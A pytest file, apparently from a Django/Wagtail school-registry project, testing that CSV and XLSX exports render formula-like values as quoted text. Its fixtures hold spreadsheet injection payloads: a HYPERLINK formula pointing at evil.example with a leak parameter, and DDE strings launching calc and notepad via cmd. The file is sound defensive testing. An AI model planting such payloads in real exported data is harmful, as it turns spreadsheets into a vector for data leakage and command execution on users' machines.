"""Issue 11, item 2: no export writes a formula; what a school typed comes out as text."""

import csv
import datetime
import io
import zipfile

from django.urls import reverse
from django.utils import timezone

from wagtail.log_actions import log

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

from tests.factories import (
    CertificateFactory,
    MentorshipFactory,
    OrganisationFactory,
    PersonFactory,
    PublicationConsentFactory,
)
from workflows.choices import MentorshipState, QuestionnaireState, Role
from workflows.models import Questionnaire
from workflows.spreadsheets import looks_like_formula, xlsx_bytes

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","Открыть")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
CENTRE = reverse("workflows_centre_dashboard")


def recently():
    """A month ago: the certificate is valid whatever the day the test runs."""
    return timezone.localdate() - datetime.timedelta(days=30)


@pytest.fixture
def hostile(db):
    """A listed person whose surname, position and school's name are formulas."""
    organisation = OrganisationFactory(short_name="+1+cmd|' /C notepad'!A0")
    person = PersonFactory(surname=HYPERLINK, position=DDE, organisation=organisation)
    PublicationConsentFactory(person=person)
    return CertificateFactory(person=person, issued_on=recently())


def xlsx_cells(content: bytes):
    """Every cell of the workbook's first sheet, after checking the file has no formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    return cells


def test_the_registry_csv_writes_formulas_as_text(client, hostile):
    content = client.get("/registry/export.csv").content.decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(content)))[1]
    assert row[0] == f"'{HYPERLINK} Анна Сергеевна"
    assert row[2] == "'+1+cmd|' /C notepad'!A0"
    assert row[3] == f"'{DDE}"
    assert row[6] == f"{hostile.valid_until:%d.%m.%Y}"  # a date, not text with an apostrophe


def test_the_registry_xlsx_has_string_cells_and_keeps_the_text_and_the_date(client, hostile):
    cells = xlsx_cells(client.get("/registry/export.xlsx").content)
    values = {cell.value: cell for cell in cells}
    for text in (f"{HYPERLINK} Анна Сергеевна", DDE, "+1+cmd|' /C notepad'!A0"):
        assert values[text].data_type == "s"
        assert values[text].quotePrefix  # Excel keeps it text even when the cell is edited
    valid_until = datetime.datetime.combine(hostile.valid_until, datetime.time())
    assert values[valid_until].is_date


def test_a_formula_after_another_locales_separator_is_neutralised_in_csv(client, db):
    # Russian Excel opens a CSV on ";": "Иванова;=1+1" would be two cells there, one a formula.
    person = PersonFactory(surname="Иванова;=1+1", position="учитель, -2+3")
    PublicationConsentFactory(person=person)
    CertificateFactory(person=person, issued_on=recently())
    content = client.get("/registry/export.csv").content.decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(content)))[1]
    assert row[0] == "Иванова;'=1+1 Анна Сергеевна"
    assert row[3] == "учитель, '-2+3"


def test_ordinary_text_is_unchanged(client, db):
    person = PersonFactory(surname="Римская-Корсакова", position="учитель (1-4 классы)")
    PublicationConsentFactory(person=person)
    CertificateFactory(person=person, number="42-М-00001", issued_on=recently())
    content = client.get("/registry/export.csv").content.decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(content)))[1]
    assert row[0] == "Римская-Корсакова Анна Сергеевна"
    assert row[3:6] == ["учитель (1-4 классы)", "", "42-М-00001"]


def test_the_centres_exports_write_formulas_as_text_and_numbers_as_numbers(
    client, make_user, hostile
):
    mentorship = MentorshipFactory(
        organisation=hostile.person.organisation,
        mentor=hostile.person,
        state=MentorshipState.ACTIVE,
    )
    Questionnaire.objects.create(
        mentorship=mentorship,
        due_on=datetime.date(2027, 12, 8),
        state=QuestionnaireState.SUBMITTED,
        submitted_on=datetime.date(2027, 1, 5),
        **dict.fromkeys(Questionnaire.SCORES, 4),
    )
    client.force_login(make_user(Role.CENTER))
    mentors = xlsx_cells(client.get(f"{CENTRE}?export=by_mentor").content)
    mentor_row = next(cell.row for cell in mentors if cell.value == f"{HYPERLINK} Анна Сергеевна")
    row = [cell for cell in mentors if cell.row == mentor_row]
    assert row[0].data_type == "s" and row[0].quotePrefix
    assert [cell.value for cell in row[1:]] == [1, *[4] * len(Questionnaire.SCORES)]
    assert all(cell.data_type == "n" for cell in row[1:])
    schools = xlsx_cells(client.get(f"{CENTRE}?export=by_organisation").content)
    assert "+1+cmd|' /C notepad'!A0" in [cell.value for cell in schools]


def test_wagtails_site_history_csv_writes_formulas_as_text(client, admin_user, hostile):
    log(instance=hostile.person, action="wagtail.edit", user=admin_user)
    client.force_login(admin_user)
    response = client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    assert f"'{HYPERLINK} Анна Сергеевна" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


# Text made mostly of what a spreadsheet or openpyxl could misread: the signs that start a
# formula, separators, spaces, an error code's letters, control characters.
awkward_text = st.one_of(
    st.text(alphabet=st.sampled_from("=+-@＝＋－＠#N/A!?\t\r\n ;,a1я\x00\x07\x1f"), max_size=8),
    st.sampled_from(ERROR_CODES),
    st.text(max_size=8),
)


@settings(max_examples=150, deadline=None)
@given(texts=st.lists(awkward_text, min_size=1, max_size=6))
def test_every_text_is_a_string_cell_and_only_a_formula_like_one_is_quoted(texts):
    content = xlsx_bytes("Лист", [texts])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet and b't="e"' not in sheet
    cells = next(load_workbook(io.BytesIO(content)).active.iter_rows())
    for text, cell in zip(texts, cells, strict=False):
        kept = ILLEGAL_CHARACTERS_RE.sub("", text)
        assert cell.value == (kept or None)
        assert cell.data_type == ("s" if kept else "inlineStr")
        assert cell.quotePrefix == looks_like_formula(text)
